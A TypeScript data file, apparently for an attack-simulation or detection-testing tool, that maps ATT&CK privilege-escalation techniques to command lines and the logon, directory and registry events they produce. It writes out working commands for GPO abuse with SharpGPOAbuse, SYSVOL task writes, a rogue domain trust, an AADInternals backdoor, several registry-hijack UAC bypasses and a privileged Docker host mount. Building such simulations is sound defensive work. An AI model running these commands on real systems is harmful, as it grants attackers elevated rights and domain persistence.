import { CSE, gpoEdit, t, v } from "../dsl";

/** Privilege escalation (continued): domain policy abuse, UAC bypasses, escape to host. */
export const privilegeEscalationB = [
  t("T1484", "Domain or tenant policy modification", "GPOs or trusts changed to push code or rights.", [
    v(
      "gpo-restricted-groups",
      [
        {
          cmd: '{{tools}}\\SharpGPOAbuse.exe --AddLocalAdmin --UserAccount {{user}} --GPOName "{{name}} Workstations"',
          net: [
            ["@dc", 389],
            ["@dc", 445],
          ],
          then: gpoEdit(
            "@admin",
            "{{gpoguid}}",
            ["Machine\\Microsoft\\Windows NT\\SecEdit\\GptTmpl.inf", "GPT.INI"],
            [CSE.registry, `${CSE.registry}${CSE.security}`],
            ["65538", "65539"],
          ),
        },
      ],
      { user: "@admin", needs: ["edit rights on a GPO linked to the targets"] },
    ),
    v(
      "new-gpo",
      [
        {
          ps: "New-GPO -Name '{{name}}' | New-GPLink -Target '{{domaindn}}'",
          net: [
            ["@dc", 389],
            ["@dc", 445],
          ],
          then: [
            {
              id: "ldap",
              kind: "logon",
              host: "@dc",
              session: "gpmc",
              user: "@admin",
              logonType: 3,
              source: "@workstation",
            },
            {
              id: "gpc",
              kind: "directory.change",
              host: "@dc",
              session: "gpmc",
              operation: "create",
              object: "CN={{{gpoguid}}},CN=Policies,CN=System",
              objectClass: "groupPolicyContainer",
            },
            {
              id: "link",
              kind: "directory.change",
              host: "@dc",
              session: "gpmc",
              object: "domain",
              objectClass: "domainDNS",
              changes: [
                {
                  attribute: "gPLink",
                  value: "[LDAP://cn={{{gpoguid}}},cn=policies,cn=system,{{domaindn}};0]",
                },
              ],
            },
            { id: "ldap-off", kind: "logoff", host: "@dc", session: "gpmc", delayMs: 400 },
          ],
        },
      ],
      { shell: "ps", user: "@admin" },
    ),
  ]),
  t(
    "T1484.001",
    "Group policy modification",
    "A GPO edited to grant rights or push a task (SharpGPOAbuse, direct SYSVOL writes).",
    [
      v(
        "sharpgpoabuse-localadmin",
        [
          {
            cmd: '{{tools}}\\SharpGPOAbuse.exe --AddLocalAdmin --UserAccount {{user}} --GPOName "{{name}} Workstations"',
            net: [
              ["@dc", 389],
              ["@dc", 445],
            ],
            then: gpoEdit(
              "@admin",
              "{{gpoguid}}",
              ["Machine\\Microsoft\\Windows NT\\SecEdit\\GptTmpl.inf", "GPT.INI"],
              [CSE.registry, `${CSE.registry}${CSE.security}`],
              ["65538", "65539"],
            ),
          },
        ],
        { user: "@admin", needs: ["edit rights on a GPO linked to the targets"] },
      ),
      v(
        "sharpgpoabuse-task",
        [
          {
            cmd: '{{tools}}\\SharpGPOAbuse.exe --AddComputerTask --TaskName "{{name}}" --Author {{domain}}\\{{admin}} --Command "cmd.exe" --Arguments "/c \\\\{{srv}}\\share\\{{rand}}.exe" --GPOName "{{name}} Workstations"',
            net: [
              ["@dc", 389],
              ["@dc", 445],
            ],
            then: gpoEdit(
              "@admin",
              "{{gpoguid}}",
              ["Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml", "GPT.INI"],
              [CSE.registry, `${CSE.tasks}${CSE.registry}`],
              ["65538", "65539"],
            ),
          },
        ],
        { user: "@admin" },
      ),
      v(
        "sharpgpoabuse-userrights",
        [
          {
            cmd: '{{tools}}\\SharpGPOAbuse.exe --AddUserRights --UserRights "SeTakeOwnershipPrivilege,SeRemoteInteractiveLogonRight" --UserAccount {{user}} --GPOName "{{name}} Workstations"',
            net: [
              ["@dc", 389],
              ["@dc", 445],
            ],
            then: gpoEdit(
              "@admin",
              "{{gpoguid}}",
              ["Machine\\Microsoft\\Windows NT\\SecEdit\\GptTmpl.inf", "GPT.INI"],
              [CSE.registry, `${CSE.registry}${CSE.security}`],
              ["131074", "131075"],
            ),
          },
        ],
        { user: "@admin" },
      ),
      v(
        "sysvol-write",
        [
          {
            cmd: "cmd.exe /c copy {{tmp}}\\ScheduledTasks.xml \\\\{{dcfqdn}}\\SYSVOL\\{{dns}}\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Preferences\\ScheduledTasks\\",
            net: [["@dc", 445]],
            then: [
              {
                id: "smb",
                kind: "logon",
                host: "@dc",
                session: "sysvol",
                user: "@admin",
                logonType: 3,
                source: "@workstation",
              },
              {
                id: "write",
                kind: "share.access",
                host: "@dc",
                session: "sysvol",
                share: "\\\\*\\SYSVOL",
                relativeTarget:
                  "{{dns}}\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml",
                accessMask: "0x12019f",
              },
              { id: "smb-off", kind: "logoff", host: "@dc", session: "sysvol", delayMs: 500 },
            ],
          },
        ],
        { user: "@admin" },
      ),
    ],
  ),
  t(
    "T1484.002",
    "Trust modification",
    "Federation settings changed (Set-MsolDomainFederationSettings) or a new trust added.",
    [
      v("netdom", ["netdom trust {{dns}} /domain:evil.local /add /realm /passwordt:P@ss{{n}}"], {
        user: "@admin",
      }),
      v("aadinternals", [{ ps: "ConvertTo-AADIntBackdoor -DomainName {{dns}}" }], { shell: "ps" }),
    ],
  ),
  t("T1548", "Abuse elevation control", "UAC bypass through an auto-elevating binary.", [
    v("fodhelper", [
      {
        cmd: 'reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d "cmd.exe /c {{tmp}}\\{{rand}}.exe" /f',
        reg: [
          [
            "HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command",
            "(Default)",
            "cmd.exe /c {{tmp}}\\{{rand}}.exe",
          ],
        ],
      },
      // fodhelper auto-elevates and opens ms-settings: the hijacked command runs at High integrity.
      { cmd: "fodhelper.exe", as: "fod", elevated: true },
      { cmd: "cmd.exe /c {{tmp}}\\{{rand}}.exe", parent: "fod", as: "c" },
      { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c" },
    ]),
    // sdclt.exe (auto-elevating backup UI) opens the Folder handler: the hijacked command runs at High integrity.
    v("sdclt-folder", [
      {
        cmd: 'reg add HKCU\\Software\\Classes\\Folder\\shell\\open\\command /ve /d "{{tmp}}\\{{rand}}.exe" /f',
        reg: [
          ["HKCU\\Software\\Classes\\Folder\\shell\\open\\command", "(Default)", "{{tmp}}\\{{rand}}.exe"],
        ],
      },
      {
        cmd: "reg add HKCU\\Software\\Classes\\Folder\\shell\\open\\command /v DelegateExecute /f",
        reg: [["HKCU\\Software\\Classes\\Folder\\shell\\open\\command", "DelegateExecute", ""]],
      },
      { cmd: "C:\\Windows\\System32\\sdclt.exe", as: "sd", elevated: true },
      { cmd: "{{tmp}}\\{{rand}}.exe", parent: "sd", elevated: true },
    ]),
    // SilentCleanup runs %windir%\system32\cleanmgr.exe elevated: a user-set windir turns it into any command.
    v("silentcleanup-windir", [
      {
        cmd: 'reg add HKCU\\Environment /v windir /d "cmd.exe /c start {{tmp}}\\{{rand}}.exe &REM " /f',
        reg: [["HKCU\\Environment", "windir", "cmd.exe /c start {{tmp}}\\{{rand}}.exe &REM "]],
      },
      "schtasks.exe /Run /TN \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /I",
      {
        cmd: "cmd.exe /c start {{tmp}}\\{{rand}}.exe &REM \\system32\\cleanmgr.exe /autoclean /d C:",
        parent: "@svchost:Schedule",
        elevated: true,
        as: "c",
      },
      { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c", keep: true },
      {
        cmd: "reg delete HKCU\\Environment /v windir /f",
        regDel: [["HKCU\\Environment", "windir"]],
      },
    ]),
  ]),
  t(
    "T1548.002",
    "Bypass UAC",
    "fodhelper/ms-settings, eventvwr/mscfile and sdclt hijacks that start a payload at High integrity.",
    [
      v("fodhelper", [
        {
          cmd: "reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute /t REG_SZ /f",
          reg: [["HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command", "DelegateExecute", ""]],
        },
        {
          cmd: 'reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d "C:\\Windows\\System32\\cmd.exe /c start {{tmp}}\\{{rand}}.exe" /f',
          reg: [
            [
              "HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command",
              "(Default)",
              "C:\\Windows\\System32\\cmd.exe /c start {{tmp}}\\{{rand}}.exe",
            ],
          ],
        },
        { cmd: "C:\\Windows\\System32\\fodhelper.exe", as: "fod", elevated: true },
        { cmd: "C:\\Windows\\System32\\cmd.exe /c start {{tmp}}\\{{rand}}.exe", parent: "fod", as: "c" },
        { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c", keep: true },
      ]),
      v(
        "eventvwr",
        [
          {
            ps: "New-Item 'HKCU:\\Software\\Classes\\mscfile\\shell\\open\\command' -Force; Set-ItemProperty 'HKCU:\\Software\\Classes\\mscfile\\shell\\open\\command' -Name '(default)' -Value 'C:\\Windows\\System32\\cmd.exe' -Force",
            reg: [
              [
                "HKCU\\Software\\Classes\\mscfile\\shell\\open\\command",
                "(Default)",
                "C:\\Windows\\System32\\cmd.exe",
              ],
            ],
          },
          {
            cmd: "C:\\Windows\\System32\\eventvwr.msc",
            image: "C:\\Windows\\System32\\eventvwr.exe",
            as: "ev",
            parent: "sh",
            elevated: true,
          },
          { cmd: '"C:\\Windows\\System32\\cmd.exe"', parent: "ev" },
        ],
        { shell: "ps" },
      ),
      v("sdclt", [
        {
          cmd: 'reg add "HKCU\\Software\\Classes\\Folder\\shell\\open\\command" /d "cmd.exe /c {{tmp}}\\{{rand}}.exe" /f',
          reg: [
            [
              "HKCU\\Software\\Classes\\Folder\\shell\\open\\command",
              "(Default)",
              "cmd.exe /c {{tmp}}\\{{rand}}.exe",
            ],
          ],
        },
        {
          cmd: 'reg add "HKCU\\Software\\Classes\\Folder\\shell\\open\\command" /v DelegateExecute /f',
          reg: [["HKCU\\Software\\Classes\\Folder\\shell\\open\\command", "DelegateExecute", ""]],
        },
        { cmd: "sdclt.exe", as: "sd", elevated: true },
        { cmd: "cmd.exe /c {{tmp}}\\{{rand}}.exe", parent: "sd", as: "c" },
        { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c" },
      ]),
      v("computerdefaults", [
        {
          cmd: 'reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d "{{tmp}}\\{{rand}}.exe" /f',
          reg: [
            [
              "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command",
              "(Default)",
              "{{tmp}}\\{{rand}}.exe",
            ],
          ],
        },
        { cmd: "C:\\Windows\\System32\\ComputerDefaults.exe", as: "cd", elevated: true },
        { cmd: "{{tmp}}\\{{rand}}.exe", parent: "cd" },
      ]),
    ],
  ),
  t(
    "T1611",
    "Escape to host",
    "A container breakout seen as a host process started by the container runtime.",
    [
      v("docker-mount", [
        '"C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe" run --rm -v C:\\:/host --privileged alpine chroot /host',
      ]),
    ],
  ),
];
